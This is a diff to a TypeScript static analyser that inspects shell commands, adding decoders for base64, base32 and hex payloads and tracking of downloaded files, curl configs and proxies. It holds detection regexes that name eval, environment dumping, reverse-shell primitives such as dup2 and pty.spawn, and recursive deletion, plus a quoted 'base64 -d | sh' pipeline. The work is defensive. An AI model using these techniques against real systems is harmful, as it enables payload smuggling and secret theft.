-  for (const cmd of shellCommandsIn(code)) runText(a, inv, cmd, `${label} shell command`);
+  for (const cmd of shellCommandsIn(code)) runText(a, inv, cmd, `${label} shell command`, { kind: 'none' });
+  // A base64 literal the code decodes is analysed as code of the same language.
+  if (nesting < 2) {
+    for (const m of code.matchAll(/(?:b64decode|atob|base64_decode|decode64|FromBase64String|Buffer\.from)\s*\(\s*['"]([A-Za-z0-9+/=_-]{8,})['"]/g)) {
+      const decoded = decode('base64', m[1]!);
+      if (decoded) inlineCode(a, inv, decoded, `${label} decoded payload`, false, nesting + 1);
+    }
+  }
 }
+
+const EVAL_RE = /\b(?:exec|eval)\s*\(|\biex\b|Invoke-Expression|new\s+Function\s*\(|\bFunction\s*\(|vm\.runIn|\bload\s*\(|instance_eval|module_eval|\beval\b/;
+const DECODE_RE = /b64decode|base64|atob\s*\(|FromBase64String|unpack\s*\(\s*['"]m|decode64|fromCharCode|\\x[0-9a-fA-F]{2}.*\\x[0-9a-fA-F]{2}/;
+const ENV_DUMP_RE = /process\.env(?!\s*[.[])|\bos\.environ(?!\s*(?:\.get|\[|\.setdefault|\.pop))|%ENV\b|\bENV\.(?:to_h|each|inspect|to_a)|\bgetenv\s*\(\s*\)|System\.getenv\s*\(\s*\)|Get-ChildItem\s+env:|\$_ENV|Deno\.env\.toObject|Bun\.env(?!\s*[.[])|print\s+ENV\b|p\s+ENV\b|pp\s+ENV\b/;
+const SHELL_SPAWN_RE = /dup2|pty\.spawn|\/bin\/(?:ba|z|da)?sh\b|cmd\.exe|powershell|Process\.Start|exec\s*\(\s*['"]\/bin/;
+const DELETE_RE = /\b(?:shutil\.rmtree|rmtree|rm_rf|rm_r|rmSync|rmdirSync|unlinkSync|os\.RemoveAll|RemoveAll|Remove-Item|FileUtils\.rm\w*|File\.delete|Files\.delete\w*|os\.remove|os\.unlink|os\.rmdir|unlink|rmdir|fs\.rm|\.unlink\s*\(|\.rmdir\s*\()/;
+const RECURSIVE_DELETE_RE = /rmtree|rm_rf|rm_r|rmSync|RemoveAll|Remove-Item|FileUtils\.rm/;
 
 function truncate(s: string, n = 120): string {
   return s.length > n ? s.slice(0, n) + '…' : s;
@@ -885,7 +1038,7 @@ function looksLikePath(s: string): boolean {
 /** Shell command strings passed to system()/exec()/subprocess with a literal argument. */
 function shellCommandsIn(code: string): string[] {
   const out: string[] = [];
-  const strRe = /(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|Popen|execSync|exec|spawnSync|system|popen|shell_exec|passthru|proc_open|getoutput|`)\s*\(?\s*(?:\[\s*)?(['"])((?:\\.|(?!\1).)*)\1((?:\s*,\s*(['"])(?:\\.|(?!\4).)*\4)*)/g;
+  const strRe = /(?:os\.execute|io\.popen|do shell script|Kernel\.system|IO\.popen|os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|Popen|execSync|exec|spawnSync|system|popen|shell_exec|passthru|proc_open|getoutput|`)\s*\(?\s*(?:\[\s*)?(['"])((?:\\.|(?!\1).)*)\1((?:\s*,\s*(['"])(?:\\.|(?!\4).)*\4)*)/g;
   let m: RegExpExecArray | null;
   while ((m = strRe.exec(code)) && out.length < 16) {
     const first = unescapeC(m[2]!);
@@ -930,7 +1083,7 @@ function awkProgram(a: ShellAnalyzer, inv: Invocation, prog: string): void {
     runText(a, inv, cmd, 'awk pipe');
   }
   for (const m of prog.matchAll(/>>?\s*"((?:\\.|[^"\\])*)"/g)) a.path(f(unescapeC(m[1]!)), 'write', 'awk print >', inv.st);
-  for (const m of prog.matchAll(/getline\s*<\s*"((?:\\.|[^"\\])*)"/g)) a.path(f(unescapeC(m[1]!)), 'read', 'awk getline <', inv.st);
+  for (const m of prog.matchAll(/getline(?:\s+[A-Za-z_][A-Za-z0-9_]*)?\s*<\s*"((?:\\.|[^"\\])*)"/g)) a.path(f(unescapeC(m[1]!)), 'read', 'awk getline <', inv.st);
 }
 
 on(['sed', 'gsed'], (a, inv) => {
@@ -954,10 +1107,18 @@ on(['sed', 'gsed'], (a, inv) => {
   for (const s of scripts) sedScript(a, inv, s.text);
 });
 
+/** An optional sed address: line numbers, `$`, /regex/ (any characters), `\cregexc`, ranges and `!`. */
+const SED_ADDR = String.raw`(?:(?:\d+|\$|\/(?:\\.|[^/\\\n])*\/[IM]*|\\(.)(?:\\.|(?!\1).)*\1)(?:\s*[,~]\s*(?:\d+|\$|\/(?:\\.|[^/\\\n])*\/[IM]*))?\s*!?)?`;
+
 function sedScript(a: ShellAnalyzer, inv: Invocation, script: string): void {
-  for (const m of script.matchAll(/(?:^|[;\n{}])\s*(?:[0-9$,/\\^.*+?[\]!~-]*)\s*([wWrR])\s+([^;\n}]+)/g)) {
-    const file = m[2]!.trim();
-    a.path(f(file), m[1]!.toLowerCase() === 'w' ? 'write' : 'read', `sed ${m[1]} command`, inv.st);
+  for (const m of script.matchAll(new RegExp(String.raw`(?:^|[;\n{}])\s*` + SED_ADDR + String.raw`\s*([wWrR])\s+([^;\n}]+)`, 'g'))) {
+    const file = m[3]!.trim();
+    if (file === '/dev/stdout' || file === '/dev/stderr') continue;
+    a.path(f(file), m[2]!.toLowerCase() === 'w' ? 'write' : 'read', `sed ${m[2]} command`, inv.st);
+  }
+  for (const m of script.matchAll(new RegExp(String.raw`(?:^|[;\n{}])\s*` + SED_ADDR + String.raw`\s*e(?:\s+([^;\n}]*))?(?=$|[;\n}])`, 'g'))) {
+    const cmd = m[2]?.trim();
+    if (cmd) runText(a, inv, cmd, 'sed e command', { kind: 'none' });
   }
   for (const m of script.matchAll(/s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gpiIme0-9]*w\s+([^;\n}]+)/g)) a.path(f(m[2]!.trim()), 'write', 'sed s///w', inv.st);
   if (/(?:^|[;\n{}])\s*[0-9$,/]*\s*e(\s|$|;)/.test(script) || /s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gpiIm0-9w]*e/.test(script)) {
@@ -980,7 +1141,7 @@ const READER_SPECS: Record<string, OptSpec> = {
   wc: { long: ['files0-from'] }, sort: { short: 'kStTo', long: ['key', 'field-separator', 'buffer-size', 'temporary-directory', 'output', 'files0-from'] },
   uniq: { short: 'fsw' }, cut: { short: 'bcdf', long: ['delimiter', 'fields', 'bytes', 'characters', 'output-delimiter'] },
   paste: { short: 'd' }, join: { short: 'ajoet12' }, comm: {}, fold: { short: 'w' }, fmt: { short: 'wgp' }, pr: { short: 'wlhoNn' },
-  expand: { short: 't' }, unexpand: { short: 't' }, column: { short: 'csotNRHWlEd' }, iconv: { short: 'fto', long: ['from-code', 'to-code', 'output'] },
+  expand: { short: 't' }, unexpand: { short: 't' }, column: { short: 'csoNRHWlE', long: ['separator', 'output-separator', 'table-columns', 'table-name', 'table-right', 'table-hide', 'output-width'] }, iconv: { short: 'fto', long: ['from-code', 'to-code', 'output'] },
   diff: { short: 'UCIFLSxX', long: ['label', 'from-file', 'to-file', 'exclude', 'exclude-from', 'ignore-matching-lines', 'unified', 'context'] },
   cmp: { short: 'inb' }, sdiff: { short: 'owI' }, diff3: { short: 'L' }, colordiff: { short: 'UC' },
   zcat: {}, zless: {}, zmore: {}, bzcat: {}, xzcat: {}, lz4cat: {}, zstdcat: {}, zgrep: {},
@@ -996,7 +1157,7 @@ const READER_SPECS: Record<string, OptSpec> = {
 };
 
 for (const [name, spec] of Object.entries(READER_SPECS)) {
-  if (['tee', 'xxd', 'split', 'openssl', 'gpg', 'sort', 'jq', 'yq', 'tr', 'cpio'].includes(name)) continue;
+  if (['tee', 'xxd', 'split', 'openssl', 'gpg', 'sort', 'jq', 'yq', 'tr', 'cpio', 'base64', 'base32', 'basenc', 'rev'].includes(name)) continue;
   on(name, (a, inv) => {
     const p = parseArgs(inv.args, spec);
     emit(a, inv, p);
@@ -1012,9 +1173,82 @@ for (const [name, spec] of Object.entries(READER_SPECS)) {
 
 on('tr', (a, inv) => emit(a, inv, parseArgs(inv.args)));
 
+/** Standard input text when it is statically known (here-doc, here-string, echo upstream). */
+function stdinText(stdin: Stdin): { text: string; dynamic: boolean } | undefined {
+  if (stdin.kind === 'text') return { text: stdin.text, dynamic: stdin.dynamic };
+  if (stdin.kind === 'pipe') {
+    const last = stdin.producers[stdin.producers.length - 1];
+    if (last?.output !== undefined) return { text: last.output, dynamic: !!last.outputDynamic };
+  }
+  return undefined;
+}
+
+/** Input of a filter: its first operand's content when this command line wrote it, else stdin. */
+function filterInput(a: ShellAnalyzer, inv: Invocation, operand: Field | undefined): { text: string; dynamic: boolean } | undefined {
+  if (!operand) return stdinText(inv.stdin);
+  const o = a.fileOrigin(inv.st, operand);
+  return o?.kind === 'text' ? { text: o.text, dynamic: o.dynamic } : undefined;
+}
+
+/**
+ * Encoders and decoders. When the input is known, the output is computed, so `echo <base64> | base64 -d | sh`
+ * is analysed as the command it decodes to (and still carries the decoded-payload risk).
+ */
+on(['base64', 'base32', 'basenc'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'w', long: ['wrap'], groups: [['-d', '--decode', '-D']], flags: ['--base64', '--base64url', '--base32', '--base16', '--ignore-garbage'] });
+  emit(a, inv, p);
+  readAll(a, inv, p.operands, `${inv.program} input`);
+  if (!has(p, '-d', '--decode')) return;
+  const input = filterInput(a, inv, p.operands[0]);
+  const decoded = input && !input.dynamic ? decode(inv.program === 'base64' || has(p, '--base64', '--base64url') ? 'base64' : inv.program === 'base32' || has(p, '--base32') ? 'base32' : 'hex', input.text) : undefined;
+  if (decoded !== undefined) inv.output = { text: decoded, dynamic: false };
+  else inv.producesOrigin = { kind: 'decoded', detail: `${inv.program} -d` };
+});
+
+on('rev', (a, inv) => {
+  const p = parseArgs(inv.args);
+  emit(a, inv, p);
+  readAll(a, inv, p.operands, 'rev input');
+  const input = filterInput(a, inv, p.operands[0]);
+  if (input) inv.output = { text: input.text.split('\n').map((l) => [...l].reverse().join('')).join('\n'), dynamic: input.dynamic };
+});
+
+function decode(kind: 'base64' | 'base32' | 'hex', text: string): string | undefined {
+  const t = text.replace(/\s+/g, '');
+  let buf: Buffer;
+  if (kind === 'base64') {
+    if (!/^[A-Za-z0-9+/_-]*={0,2}$/.test(t)) return undefined;
+    buf = Buffer.from(t, 'base64');
+  } else if (kind === 'hex') {
+    if (!/^([0-9a-fA-F]{2})*$/.test(t)) return undefined;
+    buf = Buffer.from(t, 'hex');
+  } else {
+    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
+    const clean = t.replace(/=+$/, '').toUpperCase();
+    if (!/^[A-Z2-7]*$/.test(clean)) return undefined;
+    let bits = '';
+    for (const c of clean) bits += alphabet.indexOf(c).toString(2).padStart(5, '0');
+    const bytes: number[] = [];
+    for (let i = 0; i + 8 <= bits.length; i += 8) bytes.push(parseInt(bits.slice(i, i + 8), 2));
+    buf = Buffer.from(bytes);
+  }
+  const out = buf.toString('utf8');
+  return out.includes('\uFFFD') ? undefined : out;
+}
+
 on(['jq', 'yq', 'gojq', 'jaq'], (a, inv) => {
   const spec = READER_SPECS[inv.program] ?? READER_SPECS.jq!;
-  const p = parseArgs(inv.args, spec);
+  // --arg/--argjson take a name and a value, --slurpfile/--rawfile a name and a file: rewrite them as
+  // one option with the second word as its value.
+  const args: Field[] = [];
+  for (let i = 0; i < inv.args.length; i++) {
+    const t = inv.args[i]!.text;
+    if (['--arg', '--argjson', '--slurpfile', '--rawfile'].includes(t) && i + 2 < inv.args.length) {
+      args.push({ ...inv.args[i + 2]!, text: `${t}=${inv.args[i + 2]!.text}` });
+      i += 2;
+    } else args.push(inv.args[i]!);
+  }
+  const p = parseArgs(args, spec);
   emit(a, inv, p);
   let ops = p.operands;
   const fromFile = value(p, '-f', '--from-file');
@@ -1040,6 +1274,13 @@ on('xxd', (a, inv) => {
   const [input, output] = p.operands;
   if (input) a.path(input, 'read', 'xxd input', inv.st);
   if (output) a.path(output, 'write', 'xxd output', inv.st);
+  if (!p.flags.some((x) => /^-\w*r/.test(x) || x === '-revert')) return;
+  const text = filterInput(a, inv, input);
+  const plain = p.flags.some((x) => /^-\w*p/.test(x) || x === '-ps' || x === '-plain');
+  const decoded = plain && text && !text.dynamic ? decode('hex', text.text) : undefined;
+  if (decoded !== undefined && !output) inv.output = { text: decoded, dynamic: false };
+  else if (output) a.noteFile(inv.st, output, { kind: 'decoded', detail: 'xxd -r' });
+  else inv.producesOrigin = { kind: 'decoded', detail: 'xxd -r' };
 });
 
 on(['split', 'csplit'], (a, inv) => {
@@ -1053,9 +1294,22 @@ on(['split', 'csplit'], (a, inv) => {
 on('tee', (a, inv) => {
   const p = parseArgs(inv.args, { groups: [['-a', '--append']], long: ['output-error'] });
   emit(a, inv, p);
-  for (const o of p.operands) a.path(o, 'write', 'tee', inv.st);
-  if (inv.stdin.kind === 'text') inv.output = { text: inv.stdin.text, dynamic: inv.stdin.dynamic };
+  const input = stdinText(inv.stdin);
+  for (const o of p.operands) {
+    a.path(o, 'write', 'tee', inv.st);
+    a.noteFile(inv.st, o, input ? { kind: 'text', ...input } : stdinOrigin(inv.stdin), has(p, '-a', '--append'));
+  }
+  if (input) inv.output = input;
 });
+
+/** A download or decoded payload arriving on stdin (curl … | tee x.sh). */
+function stdinOrigin(stdin: Stdin): FileOrigin | undefined {
+  if (stdin.kind !== 'pipe') return undefined;
+  const src = classifyProducers(stdin.producers);
+  if (src.kind === 'risk' && src.risk === 'download-to-shell') return { kind: 'download', detail: src.detail };
+  if (src.kind === 'risk' && src.risk === 'decoded-to-shell') return { kind: 'decoded', detail: src.detail };
+  return undefined;
+}
 
 on(['openssl'], (a, inv) => {
   const sub = inv.args[0];
@@ -1105,7 +1359,7 @@ on(['grep', 'egrep', 'fgrep', 'ack', 'ag', 'ugrep', 'pcregrep', 'pcre2grep'], (a
   const includes = allValues(p, '--include');
   for (const o of ops) {
     a.path(o, 'read', `${inv.program} input`, inv.st, { recursive });
-    if (recursive) for (const inc of includes) a.path({ text: DYN, dynamic: false, glob: `${o.text.replace(/\/+$/, '')}/**/${inc.text}`, globDot: true }, 'read', `${inv.program} --include`, inv.st);
+    if (recursive) for (const inc of includes) a.path({ text: DYN, dynamic: false, glob: `${o.text.replace(/\/+$/, '')}/**/${inc.text}`, noExpand: true }, 'read', `${inv.program} --include`, inv.st);
   }
 });
 
@@ -1129,7 +1383,7 @@ on(['rg', 'ripgrep'], (a, inv) => {
     a.path(o, has(p, '--files') ? 'list' : 'read', 'rg input', inv.st, { recursive: true });
     for (const g of globs) {
       const pat = g.text.includes('/') && !g.text.startsWith('**') ? g.text.replace(/^\//, '') : `**/${g.text.replace(/^\*\*\//, '')}`;
-      a.path({ text: DYN, dynamic: false, glob: `${o.text.replace(/\/+$/, '')}/${pat}`, globDot: true }, has(p, '--files') ? 'list' : 'read', 'rg --glob', inv.st);
+      a.path({ text: DYN, dynamic: false, glob: `${o.text.replace(/\/+$/, '')}/${pat}`, noExpand: true }, has(p, '--files') ? 'list' : 'read', 'rg --glob', inv.st);
     }
   }
 });
@@ -1147,7 +1401,7 @@ on(['rm', 'grm'], (a, inv) => {
   const recursive = has(p, '-r', '--recursive');
   for (const o of p.operands) {
     a.path(o, 'delete', 'rm operand', inv.st, { recursive });
-    if (recursive && (o.dynamic || o.text.includes(DYN))) a.risk('dynamic-path-delete', `rm -r of a path computed at run time: ${o.text}`);
+    if (recursive && (o.dynamic || (!o.glob && o.text.includes(DYN)))) a.risk('dynamic-path-delete', `rm -r of a path computed at run time: ${o.text}`);
   }
 });
 
@@ -1167,18 +1421,41 @@ on('shred', (a, inv) => {
   }
 });
 
-on(['touch', 'mkdir', 'mkfifo', 'mknod', 'truncate', 'fallocate', 'setfattr', 'xattr', 'utime', 'mktemp'], (a, inv) => {
+on(['touch', 'mkdir', 'mkfifo', 'mknod', 'truncate', 'fallocate', 'setfattr', 'xattr', 'utime'], (a, inv) => {
   const short: Record<string, string> = { touch: 'dtr', mkdir: 'mZ', mkfifo: 'mZ', mknod: 'mZ', truncate: 'sr', fallocate: 'lon', setfattr: 'nvx', mktemp: 'pt' };
   const p = parseArgs(inv.args, { short: short[inv.program] ?? '', long: ['reference', 'size', 'mode', 'date', 'tmpdir', 'suffix'] });
   emit(a, inv, p);
-  if (inv.program === 'mktemp') return;
   for (const ref of allValues(p, '-r', '--reference')) a.path(ref, 'list', `${inv.program} --reference`, inv.st);
   const ops = inv.program === 'mknod' ? p.operands.slice(0, 1) : p.operands;
   for (const o of ops) a.path(o, 'write', `${inv.program} operand`, inv.st);
 });
 
+/**
+ * mktemp prints the path it created: under $TMPDIR (or /tmp) unless the template says otherwise. The X's
+ * are random but the place is known, so `d=$(mktemp -d); rm -rf "$d"` is a delete in the temporary directory.
+ */
+on('mktemp', (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'p', long: ['tmpdir', 'suffix'], groups: [['-d', '--directory'], ['-u', '--dry-run'], ['-q', '--quiet'], ['-t']] });
+  emit(a, inv, p);
+  const tmpVar = a.varOf(inv.st, 'TMPDIR');
+  const tmp = tmpVar.v.length === 1 && !tmpVar.dyn ? tmpVar.v[0]! : '/tmp';
+  const template = p.operands[0];
+  if (template?.dynamic) return;
+  const dir = value(p, '-p', '--tmpdir');
+  const name = template?.text ?? 'tmp.XXXXXXXXXX';
+  const base = dir ? (dir.text || tmp) : !template || has(p, '-t') ? tmp : undefined;
+  const out = name.startsWith('/') || !base ? name : `${base.replace(/\/$/, '')}/${name}`;
+  const resolved = a.firstPath(f(out), inv.st);
+  if (!has(p, '-u', '--dry-run')) a.path(f(resolved), 'write', 'mktemp', inv.st);
+  inv.output = { text: resolved + '\n', dynamic: false };
+});
+
 on(['chmod', 'chown', 'chgrp', 'chattr', 'setfacl', 'chcon'], (a, inv) => {
-  const p = parseArgs(inv.args, { short: inv.program === 'setfacl' ? 'mMxX' : '', long: ['reference', 'from'], groups: [['-R', '--recursive']] });
+  // chmod -x file: a symbolic mode starting with `-` is a mode, not an option; chattr -i likewise.
+  const modeLike = inv.program === 'chmod' ? /^[-+=][rwxXstugo]+$/ : inv.program === 'chattr' ? /^[-+=][aAcCdDeEFijmPsStTux]+$/ : null;
+  const args = modeLike ? inv.args.map((x) => (modeLike.test(x.text) ? { ...x, text: `\u0001${x.text}` } : x)) : inv.args;
+  const p = parseArgs(args, { short: inv.program === 'setfacl' ? 'mMxX' : '', long: ['reference', 'from'], groups: [['-R', '--recursive']] });
+  p.operands = p.operands.map((x) => (x.text.startsWith('\u0001') ? { ...x, text: x.text.slice(1) } : x));
   emit(a, inv, p);
   const hasRef = p.values.has('--reference');
   let ops = p.operands;
@@ -1187,11 +1464,26 @@ on(['chmod', 'chown', 'chgrp', 'chattr', 'setfacl', 'chcon'], (a, inv) => {
   for (const o of ops) a.path(o, 'write', `${inv.program} operand`, inv.st, { recursive });
 });
 
-function targetAndSources(p: ParsedArgs): { sources: Field[]; dest?: Field } {
+function targetAndSources(p: ParsedArgs): { sources: Field[]; dest?: Field; intoDir: boolean } {
   const t = value(p, '-t', '--target-directory');
-  if (t) return { sources: p.operands, dest: t };
-  if (p.operands.length < 2) return { sources: p.operands };
-  return { sources: p.operands.slice(0, -1), dest: p.operands[p.operands.length - 1]! };
+  if (t) return { sources: p.operands, dest: t, intoDir: true };
+  if (p.operands.length < 2) return { sources: p.operands, intoDir: false };
+  const dest = p.operands[p.operands.length - 1]!;
+  return { sources: p.operands.slice(0, -1), dest, intoDir: p.operands.length > 2 || dest.text.endsWith('/') };
+}
+
+/**
+ * Where cp/mv/install put each source: `dest/basename(src)` when dest is a directory (trailing slash,
+ * -t, several sources, or an existing directory), else dest itself. When it cannot be told, both.
+ */
+function copyTargets(a: ShellAnalyzer, inv: Invocation, src: Field, dest: Field, intoDir: boolean, noTargetDir: boolean): Field[] {
+  if (noTargetDir) return [dest];
+  const inside: Field = { ...dest, text: `${dest.text.replace(/\/+$/, '')}/${basename(src.text.replace(/\/+$/, '')) || DYN}` };
+  if (intoDir) return [inside];
+  const isDir = dest.dynamic ? undefined : a.env.fs?.isDir?.(a.firstPath(dest, inv.st));
+  if (isDir === true) return [inside];
+  if (isDir === false && a.env.fs) return [dest];
+  return [dest, inside];
 }
 
 on(['cp', 'gcp'], (a, inv) => {
@@ -1202,20 +1494,30 @@ on(['cp', 'gcp'], (a, inv) => {
   });
   emit(a, inv, p);
   const recursive = has(p, '-r', '--recursive', '-a', '--archive');
-  const { sources, dest } = targetAndSources(p);
-  for (const s of sources) a.path(s, 'read', 'cp source', inv.st, { recursive });
-  if (dest) a.path(dest, 'write', 'cp destination', inv.st, { recursive });
+  const { sources, dest, intoDir } = targetAndSources(p);
+  for (const s of sources) {
+    a.path(s, 'read', 'cp source', inv.st, { recursive });
+    if (!dest) continue;
+    for (const t of copyTargets(a, inv, s, dest, intoDir, has(p, '-T', '--no-target-directory'))) {
+      a.path(t, 'write', 'cp destination', inv.st, { recursive });
+      a.noteFile(inv.st, t, a.fileOrigin(inv.st, s));
+    }
+  }
 });
 
 on(['mv', 'gmv'], (a, inv) => {
-  const p = parseArgs(inv.args, { short: 'tS', long: ['target-directory', 'suffix', 'backup'], groups: [['-f', '--force'], ['-n', '--no-clobber']] });
+  const p = parseArgs(inv.args, { short: 'tS', long: ['target-directory', 'suffix', 'backup'], groups: [['-f', '--force'], ['-n', '--no-clobber'], ['-T', '--no-target-directory']] });
   emit(a, inv, p);
-  const { sources, dest } = targetAndSources(p);
+  const { sources, dest, intoDir } = targetAndSources(p);
   for (const s of sources) {
     a.path(s, 'read', 'mv source', inv.st, { recursive: true });
     a.path(s, 'delete', 'mv source', inv.st, { recursive: true });
+    if (!dest) continue;
+    for (const t of copyTargets(a, inv, s, dest, intoDir, has(p, '-T', '--no-target-directory'))) {
+      a.path(t, 'write', 'mv destination', inv.st, { recursive: true });
+      a.noteFile(inv.st, t, a.fileOrigin(inv.st, s));
+    }
   }
-  if (dest) a.path(dest, 'write', 'mv destination', inv.st, { recursive: true });
 });
 
 on(['install', 'ginstall'], (a, inv) => {
@@ -1300,10 +1602,12 @@ on(['tar', 'gtar', 'bsdtar'], (a, inv) => {
   if (has(p, '-c', '--create', '-r', '--append', '-u', '--update')) {
     if (archive && archive.text !== '-') a.path(archive, 'write', 'tar archive', inv.st);
     for (const o of p.operands) a.path(o, 'read', 'tar member', st, { recursive: true });
+    if (!archive || archive.text === '-') inv.outputFiles = p.operands.filter((o) => !o.dynamic).map((o) => a.firstPath(o, st));
   } else if (has(p, '-x', '--extract', '--get')) {
     if (archive && archive.text !== '-') a.path(archive, 'read', 'tar archive', inv.st);
     if (p.operands.length) for (const o of p.operands) a.path(o, 'write', 'tar extract', st, { recursive: true });
-    else a.path(f(DYN), 'write', 'tar extract', st);
+    // Members unknown: the archive may write anywhere below the target directory.
+    else a.path(f('.'), 'write', 'tar extract', st, { recursive: true });
   } else if (archive && archive.text !== '-') a.path(archive, 'read', 'tar archive', inv.st);
 });
 
@@ -1340,7 +1644,7 @@ on(['unzip', '7z', '7za', '7zr', 'unrar', 'rar'], (a, inv) => {
     if (archive) a.path(archive, 'read', `${inv.program} archive`, inv.st);
     if (mode === 'x' || mode === 'e') {
       const out = inv.args.find((x) => x.text.startsWith('-o'));
-      a.path(f(`${out ? out.text.slice(2) : '.'}/${DYN}`), 'write', `${inv.program} extract`, inv.st);
+      a.path(f(out ? out.text.slice(2) : '.'), 'write', `${inv.program} extract`, inv.st, { recursive: true });
     }
     return;
   }
@@ -1348,7 +1652,7 @@ on(['unzip', '7z', '7za', '7zr', 'unrar', 'rar'], (a, inv) => {
   if (archive) a.path(archive, 'read', `${inv.program} archive`, inv.st);
   if (!has(p, '-l', '-p', '-t', '-v', '-Z')) {
     const d = value(p, '-d');
-    a.path(f(`${d ? d.text : '.'}/${DYN}`), 'write', `${inv.program} extract`, inv.st);
+    a.path(d ?? f('.'), 'write', `${inv.program} extract`, inv.st, { recursive: true });
   }
 });
 
@@ -1440,6 +1744,10 @@ on(['curl', 'curlie'], (a, inv) => {
   for (const cfg of allValues(p, '-K', '--config')) {
     a.path(cfg, 'read', 'curl config file', inv.st);
     mark('file');
+    // A config written earlier in this command line, or given on stdin, is read like more arguments.
+    const origin = cfg.text === '-' ? stdinText(inv.stdin) : a.fileOrigin(inv.st, cfg);
+    const text = origin && 'text' in origin ? origin.text : undefined;
+    if (text !== undefined && inv.depth < 8) wrap(a, { ...inv, stdin: { kind: 'none' } }, [f('curl'), ...curlConfigArgs(text)], 'curl -K');
   }
   for (const h of allValues(p, '-H', '--header', '-u', '--user', '-b', '--cookie', '--oauth2-bearer', '--aws-sigv4')) {
     if (h.text.startsWith('@')) {
@@ -1451,17 +1759,46 @@ on(['curl', 'curlie'], (a, inv) => {
   for (const o of allValues(p, '-o', '--output', '-D', '--dump-header', '--trace', '--trace-ascii', '--stderr', '-c', '--cookie-jar', '--etag-save')) {
     if (o.text !== '-') a.path(o, 'write', 'curl output', inv.st);
   }
+  const downloaded: FileOrigin = { kind: 'download', detail: `curl ${urls.map((u) => u.text).join(' ')}`.trim() };
+  const outputs = allValues(p, '-o', '--output').filter((o) => o.text !== '-');
+  for (const o of outputs) a.noteFile(inv.st, o, downloaded);
+  if (!outputs.length && !has(p, '-O', '--remote-name', '--remote-name-all')) inv.producesOrigin = downloaded;
   for (const r of allValues(p, '-E', '--cert', '--key', '--cacert', '--netrc-file')) a.path(r, 'read', 'curl credential file', inv.st);
   if (has(p, '-O', '--remote-name', '--remote-name-all')) {
     const dir = value(p, '--output-dir');
     for (const u of urls) {
       const name = basename(u.text.replace(/[?#].*$/, '')) || DYN;
       a.path(f(dir ? `${dir.text}/${name}` : name), 'write', 'curl -O', inv.st);
+      a.noteFile(inv.st, dir ? `${dir.text}/${name}` : name, downloaded);
     }
+  }
+  // Proxies and pinned addresses are contacted too, whatever the URL's host says.
+  for (const x of allValues(p, '-x', '--proxy', '--preproxy', '--socks4', '--socks4a', '--socks5', '--socks5-hostname')) addUrl(a, inv, x.text, 'curl proxy', sends);
+  for (const r of allValues(p, '--resolve', '--connect-to')) {
+    const parts = r.text.split(':');
+    const addr = r.text.startsWith('--connect-to') ? parts[2] : parts[parts.length - 1];
+    if (addr) addUrl(a, inv, addr.replace(/^\[|\]$/g, ''), 'curl --resolve', sends);
   }
   if (!urls.length) return;
   for (const u of urls) addUrl(a, inv, u.text, 'curl', sends);
 });
+
+/** curl config syntax (`url = "…"`, `data @file`, `--header: x`) as command-line arguments. */
+function curlConfigArgs(text: string): Field[] {
+  const out: Field[] = [];
+  for (const raw of text.split('\n')) {
+    const line = raw.trim();
+    if (!line || line.startsWith('#')) continue;
+    const m = /^(-{0,2}[A-Za-z][\w-]*)\s*(?:[=:]\s*|\s+)?(.*)$/.exec(line);
+    if (!m) continue;
+    const key = m[1]!.startsWith('-') ? m[1]! : `--${m[1]}`;
+    let val = m[2]!.trim();
+    if (/^".*"$/.test(val)) val = unescapeC(val.slice(1, -1));
+    out.push(f(key));
+    if (val) out.push(f(val));
+  }
+  return out;
+}
 
 on(['wget', 'wget2'], (a, inv) => {
   const p = parseArgs(inv.args, {
@@ -1478,10 +1815,18 @@ on(['wget', 'wget2'], (a, inv) => {
   for (const i of allValues(p, '-i', '--input-file', '--load-cookies', '--certificate', '--private-key', '--config')) a.path(i, 'read', 'wget input', inv.st);
   for (const e of allValues(p, '-e', '--execute')) a.risk('interpreter-inline', `wget -e ${e.text}`);
   for (const o of allValues(p, '-O', '--output-document', '-o', '--output-file', '-a', '--append-output', '--save-cookies')) if (o.text !== '-') a.path(o, 'write', 'wget output', inv.st);
+  const downloaded: FileOrigin = { kind: 'download', detail: `wget ${p.operands.map((u) => u.text).join(' ')}`.trim() };
+  const doc = value(p, '-O', '--output-document');
+  if (doc && doc.text !== '-') a.noteFile(inv.st, doc, downloaded);
+  if (doc?.text === '-') inv.producesOrigin = downloaded;
   const prefix = value(p, '-P', '--directory-prefix');
   if (prefix) a.path(f(`${prefix.text}/${DYN}`), 'write', 'wget -P', inv.st);
-  else if (!p.values.has('-O') && !p.values.has('--output-document')) {
-    for (const u of p.operands) a.path(f(basename(u.text.replace(/[?#].*$/, '')) || 'index.html'), 'write', 'wget download', inv.st);
+  else if (!doc) {
+    for (const u of p.operands) {
+      const name = basename(u.text.replace(/[?#].*$/, '')) || 'index.html';
+      a.path(f(name), 'write', 'wget download', inv.st);
+      a.noteFile(inv.st, name, downloaded);
+    }
   }
   for (const u of p.operands) addUrl(a, inv, u.text, 'wget', sends ?? (u.from?.subst ? 'substitution' : undefined));
 });
@@ -1493,7 +1838,7 @@ on(['http', 'https', 'xh', 'xhs'], (a, inv) => {
   const [url, ...items] = ops;
   let sends: UrlFact['sends'] | undefined;
   for (const it of items) {
-    const m = /^[^:=@]+(?::=@|=@|@)(.+)$/.exec(it.text);
+    const m = /^(?:[^:=@]+(?::=@|=@|@)|@)(.+)$/.exec(it.text);
     if (m) {
       a.path({ ...it, text: m[1]! }, 'read', `${inv.program} file field`, inv.st);
       sends = 'file';
@@ -1585,7 +1930,8 @@ on(['scp', 'rsync', 'sftp'], (a, inv) => {
   for (const w of allValues(p, '--log-file')) a.path(w, 'write', `${inv.program} --log-file`, inv.st);
   const ops = p.operands;
   if (inv.program === 'sftp') {
-    if (ops[0]) addUrl(a, inv, `sftp://${(remoteSpec(ops[0].text)?.host ?? ops[0].text).replace(/^[^@]*@/, '')}`, 'sftp', stdinSends(inv.stdin));
+    const batch = value(p, '-b');
+    if (ops[0]) addUrl(a, inv, `sftp://${(remoteSpec(ops[0].text)?.host ?? ops[0].text).replace(/^[^@]*@/, '')}`, 'sftp', batch ? 'file' : stdinSends(inv.stdin));
     return;
   }
